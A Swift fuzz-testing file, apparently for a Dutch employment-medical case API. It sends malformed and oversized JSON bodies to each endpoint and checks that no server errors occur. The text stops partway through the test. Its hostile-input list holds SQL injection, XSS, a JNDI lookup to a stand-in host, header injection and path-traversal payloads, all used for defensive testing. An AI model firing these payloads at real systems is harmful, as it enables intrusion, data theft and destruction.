import EenloketDomain
import EenloketHTTP
import Foundation
import HTTPTypes
import Testing

// MARK: A reproducible random source

/// SplitMix64: small, fast and the same on every platform, so a seed replays a run.
struct TrustRandom: RandomNumberGenerator {
    private var state: UInt64

    init(seed: UInt64) { state = seed }

    mutating func next() -> UInt64 {
        state &+= 0x9E37_79B9_7F4A_7C15
        var z = state
        z = (z ^ (z >> 30)) &* 0xBF58_476D_1CE4_E5B9
        z = (z ^ (z >> 27)) &* 0x94D0_49BB_1331_11EB
        return z ^ (z >> 31)
    }

    mutating func chance(_ p: Double) -> Bool { Double.random(in: 0..<1, using: &self) < p }
    mutating func pick<T>(_ items: [T]) -> T { items[Int.random(in: 0..<items.count, using: &self)] }

    /// The seed of this run: `EENLOKET_FUZZ_SEED`, or a new one (printed, so a failure can be replayed).
    static let runSeed: UInt64 = {
        if let text = ProcessInfo.processInfo.environment["EENLOKET_FUZZ_SEED"], let seed = UInt64(text) { return seed }
        return UInt64.random(in: 1...UInt64.max)
    }()

    /// A stable (FNV-1a) hash, so each endpoint's sequence depends only on the seed and its route.
    static func stableHash(_ text: String) -> UInt64 {
        text.utf8.reduce(0xcbf2_9ce4_8422_2325) { ($0 ^ UInt64($1)) &* 0x100_0000_01b3 }
    }
}

// MARK: JSON text that may be broken on purpose

/// JSON as bytes, so a body can hold what no JSON encoder writes: duplicate keys,
/// invalid UTF-8, raw control characters, lone surrogates, absurd nesting.
indirect enum FuzzJSON {
    /// Written verbatim (literals, numbers, anything broken).
    case raw([UInt8])
    /// The bytes between the quotes, written verbatim (already escaped, or broken on purpose).
    case string([UInt8])
    case array([FuzzJSON])
    /// Members in order; keys are the bytes between the quotes; duplicates allowed.
    case object([(key: [UInt8], value: FuzzJSON)])

    enum Step: CustomStringConvertible {
        case key(String)
        case index(Int)
        var description: String {
            switch self {
            case .key(let k): return k
            case .index(let i): return "[\(i)]"
            }
        }
    }
    typealias Path = [Step]

    enum Kind: CaseIterable { case null, bool, number, string, array, object }

    var kind: Kind {
        switch self {
        case .string: return .string
        case .array: return .array
        case .object: return .object
        case .raw(let bytes):
            switch bytes.first {
            case UInt8(ascii: "n"): return .null
            case UInt8(ascii: "t"), UInt8(ascii: "f"): return .bool
            default: return .number
            }
        }
    }

    static func from(_ value: JSONValue) -> FuzzJSON {
        switch value {
        case .null: return .raw(Array("null".utf8))
        case .bool(let b): return .raw(Array((b ? "true" : "false").utf8))
        case .number(let n):
            let text = n == n.rounded() && abs(n) < 1e15 ? String(Int(n)) : String(n)
            return .raw(Array(text.utf8))
        case .string(let s): return .string(escape(s))
        case .array(let items): return .array(items.map(from))
        case .object(let members): return .object(members.keys.sorted().map { (Array($0.utf8), from(members[$0]!)) })
        }
    }

    /// Correct JSON escaping of a string's content.
    static func escape(_ text: String) -> [UInt8] {
        var out: [UInt8] = []
        for scalar in text.unicodeScalars {
            switch scalar {
            case "\"": out += Array("\\\"".utf8)
            case "\\": out += Array("\\\\".utf8)
            case _ where scalar.value < 0x20: out += Array(String(format: "\\u%04x", scalar.value).utf8)
            default: out += Array(String(scalar).utf8)
            }
        }
        return out
    }

    func write(into out: inout [UInt8]) {
        switch self {
        case .raw(let bytes): out += bytes
        case .string(let bytes):
            out.append(UInt8(ascii: "\""))
            out += bytes
            out.append(UInt8(ascii: "\""))
        case .array(let items):
            out.append(UInt8(ascii: "["))
            for (i, item) in items.enumerated() {
                if i > 0 { out.append(UInt8(ascii: ",")) }
                item.write(into: &out)
            }
            out.append(UInt8(ascii: "]"))
        case .object(let members):
            out.append(UInt8(ascii: "{"))
            for (i, member) in members.enumerated() {
                if i > 0 { out.append(UInt8(ascii: ",")) }
                out.append(UInt8(ascii: "\""))
                out += member.key
                out += Array("\":".utf8)
                member.value.write(into: &out)
            }
            out.append(UInt8(ascii: "}"))
        }
    }

    var bytes: [UInt8] {
        var out: [UInt8] = []
        write(into: &out)
        return out
    }

    /// Every node below this one, with its path.
    func paths(_ prefix: Path = []) -> [(path: Path, node: FuzzJSON)] {
        switch self {
        case .array(let items):
            return items.enumerated().flatMap { i, item in [(prefix + [.index(i)], item)] + item.paths(prefix + [.index(i)]) }
        case .object(let members):
            return members.flatMap { member -> [(path: Path, node: FuzzJSON)] in
                let path = prefix + [.key(String(decoding: member.key, as: UTF8.self))]
                return [(path, member.value)] + member.value.paths(path)
            }
        default:
            return []
        }
    }

    /// A copy with the node at `path` replaced (`nil`: the object member removed).
    func replacing(_ path: Path, with new: FuzzJSON?) -> FuzzJSON {
        guard let first = path.first else { return new ?? self }
        let rest = Array(path.dropFirst())
        switch (self, first) {
        case (.array(var items), .index(let i)) where items.indices.contains(i):
            if rest.isEmpty, new == nil { items.remove(at: i) } else { items[i] = items[i].replacing(rest, with: new) }
            return .array(items)
        case (.object(var members), .key(let key)):
            guard let i = members.firstIndex(where: { $0.key == Array(key.utf8) }) else { return self }
            if rest.isEmpty, new == nil { members.remove(at: i) } else { members[i].value = members[i].value.replacing(rest, with: new) }
            return .object(members)
        default:
            return self
        }
    }

    /// A copy whose object at `path` holds its member `key` twice.
    func duplicating(memberAt path: Path) -> FuzzJSON {
        guard let last = path.last, case .key(let key) = last else { return self }
        let parentPath = Array(path.dropLast())
        func dup(_ node: FuzzJSON) -> FuzzJSON {
            guard case .object(var members) = node, let member = members.first(where: { $0.key == Array(key.utf8) }) else { return node }
            members.append((member.key, .string(Array("dubbel".utf8))))
            return .object(members)
        }
        if parentPath.isEmpty { return dup(self) }
        guard let parent = paths().first(where: { $0.path.map(\.description) == parentPath.map(\.description) })?.node else { return self }
        return replacing(parentPath, with: dup(parent))
    }
}

extension FuzzJSON.Path {
    /// `employer.kvk_number`, `panel.affiliations[0]`.
    var dotted: String {
        var text = ""
        for step in self {
            switch step {
            case .key(let k): text += text.isEmpty ? k : ".\(k)"
            case .index(let i): text += "[\(i)]"
            }
        }
        return text
    }
}

// MARK: What the fuzzer sends

/// An endpoint with a JSON body, set up so that its template body would succeed.
struct FuzzTarget {
    let route: String
    let method: HTTPRequest.Method
    let path: String
    let token: String?
    let template: FuzzJSON
    /// Dotted paths of required fields (missing or null: 422).
    let required: Set<String>
    /// Fields holding whole numbers (an out-of-range number there is a 422, elsewhere a 400).
    let integers: Set<String>

    init(_ route: String, path: String, token: String?, template: [String: Any], required: Set<String>, integers: Set<String> = []) {
        self.route = route
        self.method = HTTPRequest.Method(rawValue: String(route.split(separator: " ")[0]))!
        self.path = path
        self.token = token
        self.template = FuzzJSON.from(try! JSONValue.parse(Data(jsonText(template).utf8)))
        self.required = required
        self.integers = integers
    }
}

/// What a fuzzed request must get.
enum FuzzExpectation: CustomStringConvertible {
    case exactly(Int)
    /// Any 4xx problem.
    case clientError
    /// A valid body with hostile text: success or a 4xx problem, never a 5xx.
    case noServerError

    var description: String {
        switch self {
        case .exactly(let s): return "\(s)"
        case .clientError: return "a 4xx problem"
        case .noServerError: return "no 5xx"
        }
    }
}

struct FuzzCase {
    let kind: String
    let body: [UInt8]
    let expect: FuzzExpectation
}

/// Strings that have broken other services.
enum FuzzPayloads {
    static let hostile: [String] = [
        "'; DROP TABLE cases; --", "' OR '1'='1' --", "1; SELECT pg_sleep(3); --", "\\'; DELETE FROM staff WHERE ''='",
        "$1::text || (SELECT password_hash FROM staff LIMIT 1)", "%s%s%s%n", "{{7*7}}${7*7}<%= 7*7 %>", "${jndi:ldap://evil.example/x}",
        "<script>alert(1)</script>", "\"><img src=x onerror=alert(1)>", "</textarea><svg onload=alert(1)>", "javascript:alert(1)",
        "\u{202E}fdp.exe", "👩‍⚕️🏥💊", "e\u{301}\u{301}\u{301}", "\u{FEFF}BOM", "a\u{0}b", "\u{0}", "\u{1}\u{2}\u{1B}[31m\u{7F}\u{85}\u{2028}",
        "\r\nSet-Cookie: x=y", "..%2F..%2Fetc%2Fpasswd", "null", "true", "0", "-1", " ", "",
    ]

    /// Hostile text, sometimes made long enough for fields with a minimum length.
    static func hostile(_ random: inout TrustRandom) -> String {
        let payload = random.pick(hostile)
        return random.chance(0.5) ? payload + " en daarna nog wat gewone tekst" : payload
    }

    static let numbers = [
        "0", "-0", "1", "-1", "51", "0.5", "1e9", "1E+2", "-1e308", "1.7976931348623157e308", "5e-324", "2.2250738585072014e-308",
        "9007199254740993", "123456789012345678901234567890", "-123456789012345678901234567890.123456789e-5",
    ]
    /// Whole numbers out of every range the API has (1…50, 2000…2100, …) or not whole at all.
    static let invalidIntegers = ["0", "-0", "-1", "51", "0.5", "1e9", "-1e308", "1.7976931348623157e308", "5e-324", "9007199254740993"]
}

/// Generates fuzz cases for one target from a seeded random source.
struct FuzzGenerator {
    var random: TrustRandom
    let target: FuzzTarget

    init(seed: UInt64, target: FuzzTarget) {
        self.random = TrustRandom(seed: seed ^ TrustRandom.stableHash(target.route))
        self.target = target
    }

    var template: FuzzJSON { target.template }
    var fields: [(path: FuzzJSON.Path, node: FuzzJSON)] { template.paths() }
    var stringFields: [FuzzJSON.Path] { fields.filter { $0.node.kind == .string }.map(\.path) }

    mutating func randomString() -> [UInt8] {
        switch Int.random(in: 0..<6, using: &random) {
        case 0: return FuzzJSON.escape(FuzzPayloads.hostile(&random))
        case 1: return FuzzJSON.escape(String((0..<Int.random(in: 0..<40, using: &random)).map { _ in Character(UnicodeScalar(UInt8.random(in: 32...126, using: &random))) }))
        case 2: return Array("\\u0000\\u0001\\u001f\\ud83d\\ude00\\u00e9\\\"\\\\\\/\\b\\f\\n\\r\\t".utf8)
        case 3: return FuzzJSON.escape(String(repeating: random.pick(["a", "é", "€", "𝄞"]), count: random.pick([1, 19, 20, 200, 201, 2000, 20_000, 20_001])))
        case 4: return FuzzJSON.escape(random.pick(["bedrijfsarts", "accept", "employee", "2026-12-07", "2026-02-30", "12345678", "panel_member", "admin"]))
        default: return []
        }
    }

    /// Any valid JSON value, nested at most `depth` deep.
    mutating func randomValue(depth: Int = 3) -> FuzzJSON {
        switch Int.random(in: 0..<(depth > 0 ? 7 : 5), using: &random) {
        case 0: return .raw(Array("null".utf8))
        case 1: return .raw(Array(random.pick(["true", "false"]).utf8))
        case 2: return .raw(Array(random.pick(FuzzPayloads.numbers).utf8))
        case 3, 4: return .string(randomString())
        case 5: return .array((0..<Int.random(in: 0...4, using: &random)).map { _ in randomValue(depth: depth - 1) })
        default:
            return .object((0..<Int.random(in: 0...4, using: &random)).map { i in (Array("k\(i)".utf8), randomValue(depth: depth - 1)) })
        }
    }

    /// A valid value of a different JSON type than `node` (and not null).
    mutating func wrongType(for node: FuzzJSON) -> FuzzJSON {
        while true {
            let value = randomValue()
            if value.kind != node.kind && value.kind != .null { return value }
        }
    }

    mutating func insertingIntoString(_ bytes: [UInt8]) -> (FuzzJSON, String) {
        let path = random.pick(stringFields)
        return (template.replacing(path, with: .string(Array("twintig tekens en nog veel meer ".utf8) + bytes + Array(" tekst".utf8))), path.dotted)
    }

    static let deep = 10_000

    /// One case of a kind; every kind but `hostile` makes the body invalid.
    mutating func make(_ kind: String) -> FuzzCase {
        let fieldList = fields
        // A body of booleans only (consents) has no text to corrupt: those kinds become a wrong type.
        if stringFields.isEmpty && ["invalid UTF-8", "raw control character", "lone surrogate", "hostile text"].contains(kind) {
            return make("wrong type")
        }
        switch kind {
        case "wrong type":
            let field = random.pick(fieldList)
            return FuzzCase(kind: "\(kind) at \(field.path.dotted)", body: template.replacing(field.path, with: wrongType(for: field.node)).bytes, expect: .exactly(400))
        case "random types in every field":
            var body = template
            for field in fieldList where random.chance(0.4) { body = body.replacing(field.path, with: randomValue()) }
            let forced = random.pick(template.paths().filter { field in body.paths().contains { $0.path.dotted == field.path.dotted } })
            body = body.replacing(forced.path, with: wrongType(for: forced.node))
            return FuzzCase(kind: "\(kind) (at least \(forced.path.dotted))", body: body.bytes, expect: .clientError)
        case "missing required field", "null in required field":
            let required = fieldList.filter { target.required.contains($0.path.dotted) }
            guard !required.isEmpty else { return make("wrong type") }
            let field = random.pick(required)
            let body = template.replacing(field.path, with: kind.hasPrefix("missing") ? nil : .raw(Array("null".utf8)))
            return FuzzCase(kind: "\(kind) \(field.path.dotted)", body: body.bytes, expect: .exactly(422))
        case "not an object":
            let value = random.pick([FuzzJSON.array([template]), .string(randomString()), .raw(Array(random.pick(FuzzPayloads.numbers).utf8)), .raw(Array("null".utf8)), .raw(Array("true".utf8)), .array([])])
            return FuzzCase(kind: kind, body: value.bytes, expect: .exactly(400))
        case "truncated":
            let bytes = template.bytes
            return FuzzCase(kind: kind, body: Array(bytes.prefix(Int.random(in: 0..<bytes.count, using: &random))), expect: .exactly(400))
        case "garbage bytes":
            var bytes = (0..<Int.random(in: 1...300, using: &random)).map { _ in UInt8.random(in: 0...255, using: &random) }
            if bytes[0] == UInt8(ascii: "{") || bytes[0] == 0x20 || bytes[0] == 0x09 || bytes[0] == 0x0A || bytes[0] == 0x0D { bytes[0] = 0xFF }
            return FuzzCase(kind: kind, body: bytes, expect: .exactly(400))
        case "duplicate key":
            let members = fieldList.filter { if case .key = $0.path.last { return true } else { return false } }
            let field = random.pick(members)
            return FuzzCase(kind: "\(kind) \(field.path.dotted)", body: template.duplicating(memberAt: field.path).bytes, expect: .clientError)
        case "deep nesting in a field":
            let field = random.pick(fieldList)
            let open = random.chance(0.5) ? Array("[".utf8) : Array("{\"a\":".utf8)
            let close = open.count == 1 ? Array("]".utf8) : Array("}".utf8)
            var nested: [UInt8] = []
            nested.reserveCapacity(Self.deep * (open.count + 1) + 1)
            for _ in 0..<Self.deep { nested += open }
            nested += Array("1".utf8)
            for _ in 0..<Self.deep { nested += close }
            return FuzzCase(kind: "\(kind) \(field.path.dotted) (\(Self.deep) levels)", body: template.replacing(field.path, with: .raw(nested)).bytes, expect: .clientError)
        case "deep nesting as the body":
            var body: [UInt8] = []
            for _ in 0..<Self.deep { body += Array("{\"a\":".utf8) }
            body += Array("{}".utf8)
            for _ in 0..<Self.deep { body.append(UInt8(ascii: "}")) }
            return FuzzCase(kind: "\(kind) (\(Self.deep) levels)", body: body, expect: .clientError)
        case "5 MB string":
            let field = random.pick(fieldList)
            let huge = [UInt8](repeating: UInt8(ascii: random.pick(["a", "<"])), count: 5 * 1024 * 1024)
            return FuzzCase(kind: "\(kind) in \(field.path.dotted)", body: template.replacing(field.path, with: .string(huge)).bytes, expect: .exactly(413))
        case "1 MB string":
            // Just under the 1 MiB body limit: too long for every text field, a wrong type elsewhere.
            let field = random.pick(fieldList)
            let big = FuzzJSON.escape(String(repeating: random.pick(["x", "ë", "€"]), count: 300_000))
            return FuzzCase(kind: "\(kind) in \(field.path.dotted)", body: template.replacing(field.path, with: .string(big)).bytes, expect: .clientError)
        case "invalid UTF-8":
            let bad = random.pick([[0xFF], [0xC3], [0xC0, 0xAF], [0xED, 0xA0, 0x80], [0xE2, 0x82], [0xF8, 0x88, 0x80, 0x80, 0x80], [0xF4, 0x90, 0x80, 0x80], [0xEB]] as [[UInt8]])
            let (body, field) = insertingIntoString(bad)
            return FuzzCase(kind: "\(kind) \(bad.map { String(format: "%02X", $0) }.joined()) in \(field)", body: body.bytes, expect: .exactly(400))
        case "raw control character":
            let control = UInt8.random(in: 0...0x1F, using: &random)
            let (body, field) = insertingIntoString([control])
            return FuzzCase(kind: "\(kind) 0x\(String(control, radix: 16)) in \(field)", body: body.bytes, expect: .exactly(400))
        case "lone surrogate":
            let escape = random.pick(["\\ud800", "\\udbff", "\\udc00", "\\udfff", "\\ud800\\u0041", "\\ud800\\ud800", "\\ud83d"])
            let (body, field) = insertingIntoString(Array(escape.utf8))
            return FuzzCase(kind: "\(kind) \(escape) in \(field)", body: body.bytes, expect: .clientError)
        case "number at the extremes":
            let field = random.pick(fieldList)
            let whole = target.integers.contains(field.path.dotted)
            let number = random.pick(whole ? FuzzPayloads.invalidIntegers : FuzzPayloads.numbers + ["1e400", "-1e400"])
            return FuzzCase(kind: "\(kind) \(number) in \(field.path.dotted)", body: template.replacing(field.path, with: .raw(Array(number.utf8))).bytes, expect: .clientError)
        case "number out of range":
            let field = random.pick(fieldList)
            let number = random.pick(["1e400", "-1e400", "1" + String(repeating: "0", count: 400)])
            return FuzzCase(kind: "\(kind) \(number.prefix(8)) in \(field.path.dotted)", body: template.replacing(field.path, with: .raw(Array(number.utf8))).bytes, expect: .clientError)
        default:  // "hostile text"
            let path = random.pick(stringFields)
            let text = FuzzPayloads.hostile(&random)
            return FuzzCase(kind: "hostile text \(text.prefix(40).debugDescription) in \(path.dotted)", body: template.replacing(path, with: .string(FuzzJSON.escape(text))).bytes, expect: .noServerError)
        }
    }

    static let kinds = [
        "wrong type", "random types in every field", "missing required field", "null in required field", "not an object", "truncated",
        "garbage bytes", "duplicate key", "deep nesting in a field", "deep nesting as the body", "5 MB string", "1 MB string", "invalid UTF-8",
        "raw control character", "lone surrogate", "number at the extremes", "number out of range", "hostile text",
    ]
    /// Kinds drawn at random after the fixed round (the big bodies are left to the fixed round).
    static let randomKinds = kinds.filter { !["5 MB string", "1 MB string", "deep nesting as the body"].contains($0) }
}

// MARK: The tests

/// Routes under /api/v1 that take a POST, PUT or PATCH but read no body.
private let bodylessRoutes: Set<String> = [
    "POST /api/v1/cases/{id}/withdraw", "POST /api/v1/escalations/{id}/resolve", "POST /api/v1/notifications/{id}/print",
    // multipart/form-data, not JSON: DocumentTests sends it broken and hostile bodies.
    "POST /api/v1/cases/{id}/documents",
]

@Suite("Trust: fuzzing every JSON request body")
struct FuzzTests {
    /// One target per JSON-body endpoint, on one database, in the state where its template body succeeds.
    func targets(_ t: TestContext) async throws -> [FuzzTarget] {
        let admin = try await t.adminToken()
        let intake = try await t.staff(.intakeOfficer).token
        let coordinator = try await t.staff(.coordinator).token
        let chair = try await t.member(.bedrijfsarts, maxOpenCases: 50)
        try await t.member(.verzekeringsarts, maxOpenCases: 50)
        let target = try await t.member(.arbeidsdeskundige, name: "Doelwit", affiliations: ["12345678"])
        // The login fuzzing logs into an account of its own (its failures lock that account, not the admin).
        let login = (email: "inloggen@eenloket.test", password: "inlog-wachtwoord-12")
        let account = try await t.api.post(
            "/api/v1/staff", object: ["email": login.email, "name": "Inlog Proef", "password": login.password, "role": "inspector"], token: admin)
        try #require(account.status == 201, "set-up: \(account.text)")
        func inReview() async throws -> (id: String, token: String) {
            let c = try await t.file()
            let accepted = try await t.accept(c.id, disciplines: [.bedrijfsarts], intake: intake)
            try #require(accepted["status"].string == "in_review", "set-up: \(accepted.text.prefix(300))")
            return c
        }
        let submitted = try await t.file()
        let forRuling = try await inReview()
        let forStatements = try await inReview()
        let forPanel = try await inReview()
        let ruled = try await inReview()
        let forObjection = try await inReview()
        let objected = try await t.api.post(
            "/api/v1/cases/\(forObjection.id)/objections",
            object: ["staff_id": chair.id, "reason": "Dit panellid werkte voor de arbodienst van de werkgever."], token: forObjection.token)
        let objection = try #require(objected["id"].string, "set-up: \(objected.text.prefix(300))")
        let forAppointment = try await inReview()
        let hearing: [String: Any] = [
            "kind": "hearing", "starts_at": "2026-12-10T13:00:00Z", "duration_minutes": 60, "location": "Eenloket, Utrecht",
            "parties": ["employee", "employer"],
        ]
        let planned = try await t.api.post("/api/v1/cases/\(forAppointment.id)/appointments", object: hearing, token: chair.token)
        let appointment = try #require(planned["id"].string, "set-up: \(planned.text.prefix(300))")
        let employerFiled = try await t.file(role: .employer)
        let invited = try await t.accept(employerFiled.id, disciplines: [.bedrijfsarts], intake: intake)
        try #require(invited["status"].string == "in_review", "set-up: \(invited.text.prefix(300))")
        let ruling = try await t.api.post("/api/v1/cases/\(ruled.id)/ruling", object: t.rulingBody(), token: chair.token)
        try #require(ruling.status == 201, "set-up: \(ruling.text.prefix(300))")
        // Two weeks on: the first after-care check-in is due.
        t.setClock("2026-12-07", hour: 9.5)
        try await t.fireTimers()
        let due = try await t.api.get("/api/v1/cases/\(ruled.id)/followups", token: ruled.token)
        let followUp = try #require(due["items"][0]["id"].string, "set-up: \(due.text)")
        let today = AmsterdamTime.date(of: t.clock.now())

        // The fuzzing's own account; its template gives a wrong current password, so no body ever
        // changes the password (which would end the session every later case is sent with).
        let passwordAccount = (email: "wachtwoord@eenloket.test", password: "eigen-wachtwoord-12")
        let holder = try await t.api.post(
            "/api/v1/staff",
            object: ["email": passwordAccount.email, "name": "Wachtwoord Proef", "password": passwordAccount.password, "role": "inspector"],
            token: admin)
        try #require(holder.status == 201, "set-up: \(holder.text)")
        let holderToken = try await t.login(passwordAccount.email, passwordAccount.password)
        return [
            FuzzTarget(
                "POST /api/v1/account/password", path: "/api/v1/account/password", token: holderToken,
                template: ["current_password": "niet-het-huidige-wachtwoord", "new_password": "een-heel-nieuw-wachtwoord"],
                required: ["current_password", "new_password"]),
            FuzzTarget(
                "POST /api/v1/sessions", path: "/api/v1/sessions", token: nil, template: ["email": login.email, "password": login.password],
                required: ["email", "password"]),
            FuzzTarget(
                "POST /api/v1/staff", path: "/api/v1/staff", token: admin,
                template: [
                    "email": "fuzz-nieuw@eenloket.test", "name": "Dr. Fuzz", "password": "sterk-wachtwoord-12", "role": "panel_member",
                    "panel": [
                        "discipline": "bedrijfsarts", "big_number": "49012345601", "registered_since": "2012-03-01",
                        "affiliations": ["ArboNed", "12345678"], "max_open_cases": 5,
                    ],
                ],
                required: ["email", "name", "password", "role", "panel", "panel.discipline", "panel.big_number", "panel.registered_since", "panel.max_open_cases"],
                integers: ["panel.max_open_cases"]),
            FuzzTarget(
                "PATCH /api/v1/staff/{id}", path: "/api/v1/staff/\(target.id)", token: admin,
                template: [
                    "name": "Doelwit de Tweede", "email": "doelwit@eenloket.test", "active": true, "password": "nieuw-wachtwoord-12",
                    "panel": ["affiliations": ["12345678"], "registered_since": "2015-01-01", "max_open_cases": 4],
                ],
                required: [], integers: ["panel.max_open_cases"]),
            FuzzTarget(
                "POST /api/v1/staff/{id}/absences", path: "/api/v1/staff/\(target.id)/absences", token: admin,
                template: ["starts_on": today.adding(days: 10).description, "ends_on": today.adding(days: 12).description, "reason": "Vakantie"],
                required: ["starts_on", "ends_on"]),
            FuzzTarget(
                "POST /api/v1/cases", path: "/api/v1/cases", token: nil, template: t.filing(),
                required: [
                    "filer_role", "filer", "filer.name", "filer.email", "employee", "employee.name", "employer", "employer.name",
                    "employer.kvk_number", "sick_since", "question",
                ]),
            FuzzTarget(
                "POST /api/v1/cases/{id}/triage", path: "/api/v1/cases/\(submitted.id)/triage", token: intake,
                template: [
                    "decision": "accept", "case_type": "second_opinion", "other_options_exhausted": true, "disciplines": ["bedrijfsarts"],
                    "motivation": "Bedrijfsarts heeft heroverweging geweigerd.", "deviation_reason": "Drukte bij de intake deze week.",
                    "other_party": [
                        "email": "hr@jansen.example", "address": ["street": "Marktstraat 1", "postal_code": "1011 AA", "city": "Amsterdam"],
                        "verified": true,
                    ],
                ],
                required: ["decision", "motivation", "case_type", "other_options_exhausted", "disciplines"]),
            FuzzTarget(
                "POST /api/v1/cases/{id}/parties/employee/verification", path: "/api/v1/cases/\(employerFiled.id)/parties/employee/verification",
                token: intake, template: ["how": "Telefonisch gesproken met de werknemer."], required: ["how"]),
            FuzzTarget(
                "POST /api/v1/cases/{id}/ruling", path: "/api/v1/cases/\(forRuling.id)/ruling", token: chair.token, template: t.rulingBody(),
                required: ["outcome", "decision", "motivation"]),
            // Without a draft step here, valid bodies get 409 after parsing; the service's own draft round runs under Schemathesis.
            FuzzTarget(
                "POST /api/v1/cases/{id}/draft-ruling", path: "/api/v1/cases/\(forStatements.id)/draft-ruling", token: chair.token,
                template: t.rulingBody(), required: ["outcome", "decision", "motivation"]),
            FuzzTarget(
                "POST /api/v1/cases/{id}/draft-comments", path: "/api/v1/cases/\(forStatements.id)/draft-comments", token: forStatements.token,
                template: ["text": "In het concept staat 12 uur; het aanbod was 16 uur.", "medical": false], required: ["text"]),
            FuzzTarget(
                "POST /api/v1/cases/{id}/objections", path: "/api/v1/cases/\(forPanel.id)/objections", token: forPanel.token,
                template: ["staff_id": chair.id, "reason": "Dit panellid werkte voor de arbodienst van de werkgever."],
                required: ["staff_id", "reason"]),
            FuzzTarget(
                "POST /api/v1/objections/{objectionId}/decision", path: "/api/v1/objections/\(objection)/decision", token: coordinator,
                template: ["upheld": false, "motivation": "Geen band met deze zaak gebleken."], required: ["upheld", "motivation"]),
            FuzzTarget(
                "POST /api/v1/cases/{id}/panel/step-aside", path: "/api/v1/cases/\(forRuling.id)/panel/step-aside", token: chair.token,
                template: ["reason": "Ik ken de leidinggevende van de werknemer."], required: ["reason"]),
            FuzzTarget(
                "POST /api/v1/cases/{id}/appointments", path: "/api/v1/cases/\(forAppointment.id)/appointments", token: chair.token,
                template: hearing, required: ["kind", "starts_at", "duration_minutes", "parties"], integers: ["duration_minutes"]),
            FuzzTarget(
                "POST /api/v1/cases/{id}/appointments/{appointmentId}/response",
                path: "/api/v1/cases/\(forAppointment.id)/appointments/\(appointment)/response", token: forAppointment.token,
                template: ["attending": true, "note": "Ik kom met mijn jurist."], required: ["attending"]),
            FuzzTarget(
                "POST /api/v1/cases/{id}/appointments/{appointmentId}/report",
                path: "/api/v1/cases/\(forAppointment.id)/appointments/\(appointment)/report", token: chair.token,
                template: ["held": true, "summary": "Beide partijen zijn gehoord.", "medical_notes": "Knieklachten."], required: ["held"]),
            FuzzTarget(
                "POST /api/v1/cases/{id}/appointments/{appointmentId}/cancel",
                path: "/api/v1/cases/\(forAppointment.id)/appointments/\(appointment)/cancel", token: chair.token,
                template: ["reason": "De voorzitter is verhinderd."], required: ["reason"]),
            FuzzTarget(
                "POST /api/v1/cases/{id}/appeal", path: "/api/v1/cases/\(ruled.id)/appeal", token: ruled.token,
                template: ["court": "Rechtbank Amsterdam", "lodged_on": today.description], required: ["court", "lodged_on"]),
            FuzzTarget(
                "POST /api/v1/cases/{id}/statements", path: "/api/v1/cases/\(forStatements.id)/statements", token: forStatements.token,
                template: ["text": "Mijn behandelaar ziet vooruitgang.", "medical": true], required: ["text"]),
            FuzzTarget(
                "POST /api/v1/cases/{id}/appeal/outcome", path: "/api/v1/cases/\(ruled.id)/appeal/outcome", token: coordinator,
                template: ["outcome": "set_aside", "decided_on": today.description, "summary": "De rechter zette het oordeel opzij."],
                required: ["outcome", "decided_on", "summary"]),
            FuzzTarget(
                "POST /api/v1/cases/{id}/binding-agreement", path: "/api/v1/cases/\(forStatements.id)/binding-agreement",
                token: forStatements.token, template: ["agree": true, "name": "Sanne de Vries"], required: ["agree", "name"]),
            FuzzTarget(
                "PUT /api/v1/cases/{id}/return-to-work", path: "/api/v1/cases/\(ruled.id)/return-to-work", token: coordinator,
                template: ["returned_on": today.description], required: ["returned_on"]),
            FuzzTarget(
                "POST /api/v1/access-links", path: "/api/v1/access-links", token: nil,
                template: ["reference": "EL-2031-999999", "email": "niemand@example.nl"], required: ["reference", "email"]),
            FuzzTarget(
                "PUT /api/v1/cases/{id}/consents", path: "/api/v1/cases/\(forStatements.id)/consents", token: forStatements.token,
                template: ["treating_physician": true, "share_with_own_physician": false], required: []),
            FuzzTarget(
                "POST /api/v1/cases/{id}/panel", path: "/api/v1/cases/\(forPanel.id)/panel", token: coordinator,
                template: ["action": "add_discipline", "discipline": "verzekeringsarts", "motivation": "Een verzekeringsarts is nodig."],
                required: ["action", "discipline", "motivation"]),
            FuzzTarget(
                "POST /api/v1/cases/{id}/followups/{followUpId}", path: "/api/v1/cases/\(ruled.id)/followups/\(followUp)", token: ruled.token,
                template: ["ruling_carried_out": "yes", "return_to_work": "working_as_agreed", "needs_help": false, "remarks": "Het gaat goed."],
                required: ["ruling_carried_out", "return_to_work", "needs_help"]),
        ]
    }

    /// Random, broken and hostile bodies on every JSON endpoint: always a 4xx problem
    /// (a valid body with hostile text may also succeed), never a 5xx, and the service keeps serving.
    @Test func everyJSONBodyEndpointAnswersRandomBodiesWithProblems() async throws {
        let seed = TrustRandom.runSeed
        let perTarget = ProcessInfo.processInfo.environment["EENLOKET_FUZZ_CASES"].flatMap(Int.init) ?? 80
        print("FuzzTests: seed \(seed) (repeat with EENLOKET_FUZZ_SEED=\(seed)), \(perTarget) random cases per endpoint")
        try await withApp(configure: { $0.sessionLifetime = 90 * 24 * 3600 }) { t in
            let started = ContinuousClock.now
            // Stop drawing random cases after this long (the fixed round always runs), so a slow machine stays bounded.
            let budget = Duration.seconds(ProcessInfo.processInfo.environment["EENLOKET_FUZZ_SECONDS"].flatMap(Int.init) ?? 35)
            let targets = try await targets(t)
            let served = try TrustKit.servedAPIRoutes(t.deps).filter { $0.hasPrefix("POST ") || $0.hasPrefix("PUT ") || $0.hasPrefix("PATCH ") }
            for route in served where !bodylessRoutes.contains(route) && !targets.contains(where: { $0.route == route }) {
                Issue.record("new JSON body endpoint \(route) has no fuzz target in FuzzTests.targets")
            }
            let casesBefore = try await InputKit.count(t, "cases")
            let staffBefore = try await InputKit.count(t, "staff")
            var sent = 0
            var outOfTime = false
            for target in targets {
                var generator = FuzzGenerator(seed: seed, target: target)
                var cases = FuzzGenerator.kinds.enumerated().map { (index: $0.offset, fuzz: generator.make($0.element)) }
                let fixed = cases.count
                for i in 0..<perTarget {
                    if ContinuousClock.now - started > budget { outOfTime = true; break }
                    cases.append((fixed + i, generator.make(generator.random.pick(FuzzGenerator.randomKinds))))
                }
                for (index, fuzz) in cases {
                    let reply = try await InputKit.raw(t, target.method, target.path, bytes: fuzz.body, token: target.token)
                    sent += 1
                    let what = "seed \(seed), \(target.route) case #\(index) (\(fuzz.kind)), body \(TrustKit.excerpt(fuzz.body))"
                    check(reply, fuzz.expect, what)
                }
            }
            // Nothing was dropped or deleted by the hostile text, and the service still serves.
            #expect(try await InputKit.count(t, "cases") >= casesBefore, "seed \(seed): cases disappeared")
            #expect(try await InputKit.count(t, "staff") >= staffBefore, "seed \(seed): staff disappeared")
